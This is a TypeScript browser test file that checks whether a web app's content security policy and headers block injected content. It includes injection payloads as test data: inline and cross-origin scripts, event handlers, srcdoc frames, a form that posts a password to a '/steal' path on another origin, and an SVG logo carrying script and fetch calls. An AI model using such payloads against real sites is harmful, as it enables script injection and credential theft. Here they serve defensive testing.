// The headers as a second net, in a real browser: what a page would do if something had got into it.

import assert from 'node:assert/strict'
import { writeFile } from 'node:fs/promises'
import { createServer } from 'node:net'
import { after, before, describe, it } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { SCRIPT } from '../../src/pages/frame/script.ts'
import { render } from '../../src/pages/html.ts'
import type { Theme } from '../../src/pages/theme.ts'
import { themeOf } from '../fakes/pages.ts'
import { skipWithoutChromium, startChromium } from '../servers/chromium.ts'
import { temporaryFolder } from '../servers/temporary.ts'
import { startPageServer, type PageServer } from './page-server.ts'

interface Seen {
  readonly colour: string
  readonly base: string
}

// What runs in the page is a text, since this program has no types of the DOM.
const SEEN = `({
  colour: getComputedStyle(document.querySelector('p') ?? document.querySelector('h1')).color,
  base: document.baseURI,
})`

const canListenOn6 = async (): Promise<boolean> => {
  const { promise, resolve } = Promise.withResolvers<boolean>()
  const server = createServer()
  server.once('error', () => resolve(false)).listen(0, '::1', () => resolve(true))
  const can = await promise
  server.close()
  return can
}

describe('the content security policy of the pages', { skip: skipWithoutChromium() }, () => {
  let browser: Browser
  let theme: Theme
  let elsewhere: PageServer
  before(async () => {
    browser = await startChromium()
    theme = await themeOf()
    elsewhere = await startPageServer({ theme })
  })
  after(async () => {
    await browser.close()
    await elsewhere[Symbol.asyncDispose]()
  })

  const open = async (): Promise<{ page: Page; said: string[] } & AsyncDisposable> => {
    const context = await browser.newContext()
    const page = await context.newPage()
    const said: string[] = []
    page.on('console', (message) => said.push(message.text()))
    return { page, said, [Symbol.asyncDispose]: () => context.close() }
  }

  const INJECTED: readonly { name: string; markup: (origin: string) => string }[] = [
    { name: 'an inline script', markup: () => '<script>document.title="run"</script>' },
    { name: 'a script of another origin', markup: (to) => `<script src="${to}/script"></script>` },
    {
      name: 'an event handler',
      markup: () => '<img src="data:," onerror="document.title=\'run\'">',
    },
    { name: 'an image of another origin', markup: (to) => `<img src="${to}/image">` },
    {
      name: 'a stylesheet of another origin',
      markup: (to) => `<link rel="stylesheet" href="${to}/style">`,
    },
    { name: 'an inline style', markup: () => '<style>h1{color:red}</style>' },
    { name: 'a style attribute', markup: () => '<p style="color:red">x</p>' },
    { name: 'a frame', markup: (to) => `<iframe src="${to}/frame"></iframe>` },
    {
      name: 'a frame with its own document',
      markup: () => '<iframe srcdoc="<script>parent.document.title=\'run\'</script>"></iframe>',
    },
    { name: 'an object', markup: (to) => `<object data="${to}/object"></object>` },
    {
      name: 'a font',
      markup: (to) => `<link rel="preload" as="font" crossorigin href="${to}/font">`,
    },
    { name: 'a prefetch', markup: (to) => `<link rel="prefetch" href="${to}/prefetch">` },
    { name: 'a base URL', markup: (to) => `<base href="${to}/">` },
    { name: 'a video', markup: (to) => `<video src="${to}/video" autoplay></video>` },
  ]
  for (const { name, markup } of INJECTED) {
    it(`hostile: blocks ${name} injected into a page`, async () => {
      const body = `<!doctype html><title>still</title>${markup(elsewhere.origin)}<h1>x</h1><a href="a">a</a>${render(SCRIPT.element)}`
      await using server = await startPageServer({ theme, bodies: { '/injected': body } })
      await using tab = await open()
      const already = elsewhere.paths.length
      await tab.page.goto(`${server.origin}/injected`)
      assert.equal(await tab.page.title(), 'still')
      assert.deepEqual(elsewhere.paths.slice(already), [])
      assert.ok(tab.said.length > 0, 'the browser says what it did not do')
      const { colour, base } = await tab.page.evaluate<Seen>(SEEN)
      assert.equal(colour, 'rgb(0, 0, 0)')
      assert.ok(base.startsWith(server.origin))
    })
  }

  it('hostile: blocks a form injected into a page that leads to another origin', async () => {
    const form = `<form method="post" action="${elsewhere.origin}/steal"><input name="password" value="x"><button>go</button></form>`
    await using server = await startPageServer({
      theme,
      bodies: { '/injected': `<!doctype html><title>still</title>${form}` },
    })
    await using tab = await open()
    await tab.page.goto(`${server.origin}/injected`)
    await tab.page.evaluate("document.querySelector('button').click()")
    await tab.page.waitForTimeout(200)
    assert.equal(tab.page.url(), `${server.origin}/injected`)
    assert.ok(!elsewhere.paths.includes('/steal'))
    assert.match(tab.said.join('\n'), /form-action/)
  })

  /** Logs out by the form, which leads to a place; where the browser is afterwards. */
  const sentTo = async (target: string, formTargets: readonly string[]): Promise<string> => {
    await using server = await startPageServer({ theme, formTargets, answerTo: () => target })
    await using tab = await open()
    await tab.page.goto(server.url('confirm-logout'))
    await tab.page.getByRole('button', { name: 'Log out' }).click()
    await tab.page.waitForURL(target, { timeout: 1_000 }).catch(() => undefined)
    return tab.page.url()
  }

  it('allows a form to lead to its configured targets only', async () => {
    const target = elsewhere.url('logged-out')
    assert.equal(await sentTo(target, [target]), target)
    assert.notEqual(await sentTo(target, []), target)
    assert.notEqual(await sentTo(target, ['https://app.example.org/']), target)
  })

  it('allows a form to lead to a program that listens on an IPv6 loopback address', async (context) => {
    if (!(await canListenOn6())) return context.skip('this machine has no ::1')
    await using program = await startPageServer({ theme }, '::1')
    const target = program.url('logged-out')
    assert.equal(await sentTo(target, [target]), target)
    assert.notEqual(await sentTo(target, []), target)
    return undefined
  })

  it('hostile: blocks framing of a page, by its own origin as well', async () => {
    await using server = await startPageServer({ theme })
    await using tab = await open()
    for (const framer of [elsewhere, server]) {
      await tab.page.route('**/framer', (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: `<iframe src="${server.url('login-everything')}"></iframe>`,
        }),
      )
      await tab.page.goto(`${framer.origin}/framer`)
      const [, frame] = tab.page.frames()
      assert.ok(frame)
      assert.match(frame.url(), /^chrome-error:/)
    }
    assert.match(tab.said.join('\n'), /frame-ancestors|X-Frame-Options/)
  })

  it('hostile: gives the page that opened a page no access to it', async () => {
    await using server = await startPageServer({ theme })
    await using tab = await open()
    await tab.page.goto(elsewhere.url('logged-out'))
    const [popup] = await Promise.all([
      tab.page.waitForEvent('popup'),
      tab.page.evaluate(`void window.open('${server.url('login-everything')}')`),
    ])
    await popup.waitForLoadState()
    assert.equal(await popup.evaluate<boolean>('window.opener === null'), true)
  })

  it('hostile: blocks scripts and requests of an SVG logo', async () => {
    await using folder = await temporaryFolder()
    const logo = folder.file('logo.svg')
    const hostile = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.document.title='run'"><script>parent.document.title='run';fetch('${elsewhere.origin}/logo')</script><image href="${elsewhere.origin}/logo"/><style>@import "${elsewhere.origin}/logo"</style><rect width="40" height="40"/></svg>`
    await writeFile(logo, hostile)
    await using server = await startPageServer({ theme: await themeOf({ logo }) })
    await using tab = await open()
    await tab.page.goto(server.url('login-everything'))
    assert.equal(
      await tab.page.evaluate<number>("document.querySelector('header img').naturalWidth"),
      40,
    )
    await tab.page.waitForTimeout(200)
    assert.match(await tab.page.title(), /^Log in/)
    assert.ok(!elsewhere.paths.includes('/logo'))
  })
})
